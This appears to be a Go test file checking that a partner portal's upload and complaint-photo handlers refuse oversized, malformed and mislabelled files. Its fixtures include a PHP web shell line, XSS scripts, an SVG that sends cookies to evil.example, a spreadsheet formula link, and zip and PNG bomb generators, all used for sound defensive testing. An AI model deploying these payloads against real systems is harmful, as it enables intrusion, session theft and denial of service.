package portal

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"strings"
	"testing"

	"partnerdesk/domain/complaint"
	"partnerdesk/domain/dbtest"
	"partnerdesk/locales"
)

// Oversized, malformed and mislabelled uploads: the order-file upload and the
// complaint form's photos.

// csvLines is an endless order file, made as it is read: a 1 GB upload that
// the test never holds in memory.
type csvLines struct{ off int }

var csvBlock = []byte(strings.Repeat("KAB-YDY-3X2,5;100\r\n", 4096))

func (c *csvLines) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		k := copy(p[n:], csvBlock[c.off:])
		n += k
		c.off = (c.off + k) % len(csvBlock)
	}
	return n, nil
}

var errKeptReading = errors.New("the server kept reading the oversized upload")

// meteredBody counts what the server reads of a request body and stops it,
// with errKeptReading, after limit bytes: proof enough that it would have
// read everything, without writing a gigabyte to a temporary file.
type meteredBody struct {
	r     io.Reader
	read  int64
	limit int64
}

func (m *meteredBody) Read(p []byte) (int, error) {
	if m.read >= m.limit {
		return 0, errKeptReading
	}
	if left := m.limit - m.read; int64(len(p)) > left {
		p = p[:left]
	}
	n, err := m.r.Read(p)
	m.read += int64(n)
	return n, err
}

// hugeUpload is a form of fields (the form token first, as a browser sends
// it) and one file or field value of size bytes, streamed.
type hugeUpload struct {
	path       string
	fields     [][2]string
	file       string // the file input's name (or the huge field's, urlencoded)
	filename   string
	size       int64
	chunked    bool // no Content-Length: the server learns the size only by reading
	urlencoded bool // an ordinary form instead of multipart
	header     bool // the form token in the X-CSRF-Token header instead of the form
}

// send posts the upload as p's browser and reports how much the server read,
// at most stopAt bytes.
func (u hugeUpload) send(p *testPortal, stopAt int64) (response, int64) {
	p.t.Helper()
	var head bytes.Buffer
	var tail, contentType string
	if u.urlencoded {
		for _, f := range u.fields {
			head.WriteString(url.QueryEscape(f[0]) + "=" + url.QueryEscape(f[1]) + "&")
		}
		head.WriteString(u.file + "=")
		contentType = "application/x-www-form-urlencoded"
	} else {
		mw := multipart.NewWriter(&head)
		for _, f := range u.fields {
			mw.WriteField(f[0], f[1])
		}
		mw.CreateFormFile(u.file, u.filename)
		tail, contentType = "\r\n--"+mw.Boundary()+"--\r\n", mw.FormDataContentType()
	}
	body := &meteredBody{limit: stopAt,
		r: io.MultiReader(bytes.NewReader(head.Bytes()), io.LimitReader(&csvLines{}, u.size), strings.NewReader(tail))}
	req := httptest.NewRequest(http.MethodPost, testOrigin+u.path, body)
	req.Header.Set("Content-Type", contentType)
	req.Header.Set("Origin", testOrigin)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	if u.header {
		req.Header.Set("X-CSRF-Token", p.cookie(csrfCookie))
	}
	req.ContentLength = -1
	if !u.chunked {
		req.ContentLength = int64(head.Len()) + u.size + int64(len(tail))
	}
	res := p.do(req)
	return res, body.read
}

const (
	gigabyte = 1 << 30
	// readEnough is where the meter stops an upload: no form of the portal
	// (five complaint photos at most) comes near it, a server that reads
	// this much of a gigabyte would read all of it.
	readEnough = 64 << 20
)

// A 1 GB CSV sent as an order file: the server stops reading long before the
// end and answers 413 (or the upload page's own "file too large"); nothing
// reaches the cart. A signed-out visitor, sending it without a length, cannot
// make the server read it either. (Each case reads up to the portal's form
// limit under the race detector: the cases are few.)
func TestAttackHugeOrderFile(t *testing.T) {
	tn := newTenant(t, "pl")
	db := dbtest.DB(t)
	p := newTestPortal(t)
	p.signIn(tn.BuyerEmail)
	u := hugeUpload{path: "/upload", fields: [][2]string{{"csrf", p.cookie(csrfCookie)}}, file: "file", filename: "zamowienie.csv", size: gigabyte}
	res, read := u.send(p, readEnough)
	tooLarge := translated(p, "pl", "orderfile_too_large")
	if read >= readEnough || res.Status != http.StatusRequestEntityTooLarge && !(res.Status == http.StatusUnprocessableEntity && strings.Contains(res.Body, tooLarge)) {
		t.Errorf("the server read %d MB of a 1 GB file and answered %d, want it to stop early with 413 or the file-too-large message", read>>20, res.Status)
	}
	u.header, u.fields = true, nil // the token in the header: the upload's own limit
	if res, read := u.send(p, readEnough); read >= readEnough || res.Status != http.StatusRequestEntityTooLarge {
		t.Errorf("token in the header: the server read %d MB of a 1 GB file and answered %d, want 413", read>>20, res.Status)
	}
	anon := newTestPortal(t)
	anon.get("/signin", "")
	u = hugeUpload{path: "/upload", fields: [][2]string{{"csrf", anon.cookie(csrfCookie)}}, file: "file", filename: "x.csv", size: gigabyte, chunked: true}
	if res, read := u.send(anon, readEnough); read >= readEnough || res.Status < 400 && res.Status != http.StatusSeeOther {
		t.Errorf("signed out, no length: the server read %d MB of a 1 GB upload, answered %d", read>>20, res.Status)
	}
	var inCart int
	dbtest.Scan(t, db, &inCart, "SELECT count(*) FROM cart_lines WHERE user_id = ?", tn.Buyer)
	if inCart != 0 {
		t.Fatalf("%d cart lines from a refused upload", inCart)
	}
}

// The complaint form takes up to five photos: a 1 GB one is refused with 413
// long before its end, and nothing is stored.
func TestAttackHugeComplaintPhoto(t *testing.T) {
	tn := newTenant(t, "pl")
	line := deliverOrder(t, tn)
	p := newTestPortal(t)
	dir := usePhotoDir(t, p.srv)
	p.signIn(tn.BuyerEmail)
	u := hugeUpload{path: fmt.Sprintf("/complaints?order=%d", tn.OrderNumber), fields: [][2]string{{"csrf", p.cookie(csrfCookie)},
		{"order", fmt.Sprint(tn.OrderNumber)}, {"line", fmt.Sprint(line)}, {"qty", "1"}, {"reason", "damaged"}},
		file: "photos", filename: "zdjecie.jpg", size: gigabyte, chunked: true}
	if res, read := u.send(p, readEnough); read >= readEnough || res.Status != http.StatusRequestEntityTooLarge {
		t.Errorf("the server read %d MB of a 1 GB photo and answered %d, want it to stop early with 413", read>>20, res.Status)
	}
	if files := storedFiles(t, dir); len(files) != 0 {
		t.Fatalf("photos stored: %v", files)
	}
}

// An ordinary (urlencoded) form is read into memory whole before it is
// parsed: a 1 GB sign-in form from a visitor must be cut off at net/http's
// own cap for such forms (10 MB), not at the multipart photo limit.
func TestAttackHugeForm(t *testing.T) {
	p := newTestPortal(t)
	p.get("/signin", "")
	const formLimit = 10 << 20
	u := hugeUpload{path: "/signin", fields: [][2]string{{"csrf", p.cookie(csrfCookie)}, {"email", "a@example.test"}}, file: "password",
		size: gigabyte, chunked: true, urlencoded: true}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	res, read := u.send(p, readEnough)
	runtime.ReadMemStats(&after)
	if read > formLimit+1<<20 || res.Status < 400 {
		t.Errorf("a 1 GB sign-in form: the server read %d MB, allocated %d MB, answered %d", read>>20,
			(after.TotalAlloc-before.TotalAlloc)>>20, res.Status)
	}
}

// A program is not a browser: it sets the form-token cookie and the
// X-CSRF-Token header to a value of its choosing. checkCSRF then trusts the
// header and leaves the body alone, so the body limit must not depend on
// where the token came from: a signed-out 1 GB multipart post to a public
// form is cut off early too.
func TestAttackHugeFormTokenInHeader(t *testing.T) {
	for _, path := range []string{"/signin", "/register", "/language", "/invite/not-a-token"} {
		p := newTestPortal(t)
		p.get("/signin", "")
		u := hugeUpload{path: path, file: "file", filename: "x.csv", size: gigabyte, chunked: true, header: true}
		if res, read := u.send(p, readEnough); read >= readEnough {
			t.Errorf("POST %s, token in the header: the server read %d MB of a 1 GB body and kept going (answer %d)", path, read>>20, res.Status)
		}
	}
}

// zipBomb is an .xlsx whose sheet inflates to n zero bytes while its
// directory claims a few hundred.
func zipBomb(t testing.TB, n int) []byte {
	var comp bytes.Buffer
	fw, _ := flate.NewWriter(&comp, flate.BestCompression)
	zeros := make([]byte, 1<<20)
	crc := crc32.NewIEEE()
	for left := n; left > 0; left -= len(zeros) {
		fw.Write(zeros[:min(left, len(zeros))])
		crc.Write(zeros[:min(left, len(zeros))])
	}
	fw.Close()
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	w, _ := zw.Create("[Content_Types].xml")
	io.WriteString(w, `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)
	raw, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: crc.Sum32(),
		CompressedSize64: uint64(comp.Len()), UncompressedSize64: 300})
	if err != nil {
		t.Fatal(err)
	}
	raw.Write(comp.Bytes())
	zw.Close()
	return out.Bytes()
}

// Mislabelled and malicious order files are refused or reported line by line
// with their content escaped; none of them adds anything to the cart.
func TestAttackMislabelledOrderFiles(t *testing.T) {
	tn := newTenant(t, "pl")
	db := dbtest.DB(t)
	p := newTestPortal(t)
	p.signIn(tn.BuyerEmail)
	unreadable := translated(p, "pl", "orderfile_unreadable")
	cases := []struct {
		name, filename string
		data           []byte
		want           string // a message the page must show; "" when a report is fine
	}{
		{"zip bomb named .xlsx", "zamowienie.xlsx", zipBomb(t, 16<<20), unreadable},
		{"PHP named .csv", "zamowienie.csv", []byte("<?php system($_GET['c']); ?>\n"), ""},
		{"script in a SKU", "zamowienie.csv", []byte("SKU;Qty\n<script>alert(document.cookie)</script>;1\n\"=HYPERLINK(\"\"http://evil.example\"\")\";2\n"), ""},
		{"binary named .csv", "zamowienie.csv", append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 4096)...), ""},
	}
	for _, c := range cases {
		res := p.upload(c.filename, c.data)
		if res.Status != http.StatusOK && res.Status != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d", c.name, res.Status)
		}
		if c.want != "" {
			mustContain(t, res.Body, c.want)
		}
		for _, raw := range []string{"<?php", "<script>alert", "\x7fELF"} {
			if strings.Contains(res.Body, raw) {
				t.Errorf("%s: the page shows %q unescaped", c.name, raw)
			}
		}
	}
	var inCart int
	dbtest.Scan(t, db, &inCart, "SELECT count(*) FROM cart_lines WHERE user_id = ?", tn.Buyer)
	if inCart != 0 {
		t.Fatalf("%d cart lines from uploads that were only reported", inCart)
	}
}

// pngHeader is the start of a PNG claiming w × h pixels: enough for a
// decoder to allocate for it, were it to trust the header.
func pngHeader(w, h uint32) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr, w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 6 // 8-bit RGBA
	chunk := binary.BigEndian.AppendUint32(nil, uint32(len(ihdr)))
	chunk = append(chunk, "IHDR"...)
	chunk = append(chunk, ihdr...)
	chunk = binary.BigEndian.AppendUint32(chunk, crc32.ChecksumIEEE(chunk[4:]))
	return append([]byte("\x89PNG\r\n\x1a\n"), chunk...)
}

// Photos that are not photos, through the portal's complaint form: an SVG
// with a script (under its own name and as .jpg), a PNG header claiming ten
// billion pixels, a PHP file named .jpg. Each is refused by name with the
// reason; no complaint is filed and nothing stays in the photo store.
func TestAttackComplaintPhotos(t *testing.T) {
	tn := newTenant(t, "pl")
	line := deliverOrder(t, tn)
	p := newTestPortal(t)
	dir := usePhotoDir(t, p.srv)
	p.signIn(tn.BuyerEmail)
	db := dbtest.DB(t)
	var before int
	dbtest.Scan(t, db, &before, "SELECT count(*) FROM complaints WHERE company_id = ?", tn.CompanyID)
	loc := locales.NewLocalizer(p.srv.bundle, "pl")
	reason := func(code string, max int) string {
		msg := fieldMessage(loc, &complaint.FieldError{Field: "photo", Code: code, Max: max})
		return strings.ReplaceAll(translated(p, "pl", "complaint_photo_refused", map[string]any{"Name": "%s", "Reason": msg}), "\u00a0", " ")
	}
	svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">` +
		`<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>`)
	cases := []struct {
		photo photoFile
		want  string
	}{
		{photoFile{"faktura.svg", svg}, reason(complaint.CodePhotoType, 0)},
		{photoFile{"zdjecie.jpg", svg}, reason(complaint.CodePhotoType, 0)},
		{photoFile{"bomba.png", pngHeader(100000, 100000)}, reason(complaint.CodePhotoTooManyPixels, complaint.DefaultPhotoMaxPixels)},
		{photoFile{"shell.jpg", []byte("<?php system($_GET['c']); ?>\n")}, reason(complaint.CodePhotoType, 0)},
	}
	for _, c := range cases {
		res := p.postComplaint(url.Values{"order": {fmt.Sprint(tn.OrderNumber)}, "line": {fmt.Sprint(line)}, "qty": {"1"},
			"reason": {"damaged"}, "description": {"Uszkodzone " + tn.Marker}}, c.photo)
		if res.Status != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d, want 422", c.photo.name, res.Status)
			continue
		}
		mustContain(t, res.Body, fmt.Sprintf(c.want, c.photo.name))
		for _, raw := range []string{`onload="alert`, "<script>fetch", "<?php"} {
			if strings.Contains(res.Body, raw) {
				t.Errorf("%s: the page shows %q", c.photo.name, raw)
			}
		}
	}
	var after int
	dbtest.Scan(t, db, &after, "SELECT count(*) FROM complaints WHERE company_id = ?", tn.CompanyID)
	if after != before || len(storedFiles(t, dir)) != 0 {
		t.Fatalf("complaints %d → %d, stored files %v", before, after, storedFiles(t, dir))
	}
}
